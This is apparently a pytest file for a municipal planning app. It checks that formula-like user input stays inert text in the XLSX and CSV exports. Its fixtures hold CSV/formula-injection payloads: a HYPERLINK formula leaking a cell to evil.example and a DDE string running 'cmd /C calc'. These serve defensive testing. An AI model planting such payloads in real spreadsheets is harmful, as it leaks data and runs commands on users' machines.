"""Leader text and imported names reach spreadsheets as text: no formula cell in the XLSX plan or the audit CSV."""

from __future__ import annotations

import csv
import io
from io import BytesIO

from fastapi.testclient import TestClient
from openpyxl import load_workbook

from tasks.outbox.audit import HEADER, write_csv
from tasks.plan.versions import adopt
from tasks.runtime import Runtime
from tests.support.plan_year import YEAR, answer, at, consultation, measure, need, spring_input
from web.app import create_app

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Klikk her")'
STARTS = ("=cmd|' /C calc'!A0", "+47 SUM(1,1)", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1")


def test_a_measure_titled_as_a_formula_is_a_string_cell_in_the_public_xlsx(rt: Runtime) -> None:
    with rt.session() as session:
        spring_input(session, rt)
        hostile = {
            "requirements": "Krav",
            "holdings": "Har",
            "needs": [need("Demens", "høy", "kort", "utvikle")],
            "measures": [measure("+Demens", EVIL, 10_000, target_group="@Alle", responsible="-Leder")],
        }
        answer(session, rt, "leder3@testvik.no", "spring-input", hostile, at(3, 11))
        consultation(session, rt)
        vedtak = {"body": "Kommunestyret", "held_on": "2027-12-09", "kind": "vedtak", "case_number": "2027/512"}
        adopt(session, rt, year=YEAR, handlings=[vedtak], now=at(12, 10), actor="HR")
    with TestClient(create_app(rt)) as client:
        response = client.get(f"/plan/{YEAR + 1}/xlsx")  # the plan made in YEAR is the plan for YEAR + 1
    assert response.status_code == 200
    book = load_workbook(BytesIO(response.content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    titles = [cell for cell in cells if cell.value == EVIL]
    assert len(titles) == 2 and all(cell.data_type == "s" and cell.quotePrefix for cell in titles)  # both sheets
    texts = {cell.value for cell in cells if cell.data_type == "s"}
    assert {"+Demens", "@Alle", "-Leder"} <= texts
    assert "Demensomsorgens ABC" in texts  # ordinary text untouched
    costs = [cell for cell in book["Tiltak"]["I"][1:] if cell.value is not None]
    assert costs and all(cell.data_type == "n" for cell in costs)  # numbers stay numbers


def test_the_audit_csv_neutralises_names_that_start_like_a_formula() -> None:
    before, after = ("2027-03-01 09:00", "reminder.queued", "Påminnelse"), ("x@testvik.no", "Enhet 1", "Fase", "", "")
    rows = [(*before, name, *after) for name in (*STARTS, EVIL, "Leder 1")]
    stream = io.StringIO(newline="")
    assert write_csv(rows, stream) == len(rows)
    read = list(csv.reader(io.StringIO(stream.getvalue(), newline=""), delimiter=";"))
    assert tuple(read[0]) == HEADER
    names = [row[3] for row in read[1:]]
    assert names == [f"'{name}" for name in (*STARTS, EVIL)] + ["Leder 1"]
    risky = [field for row in read for field in row if field[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert risky == []
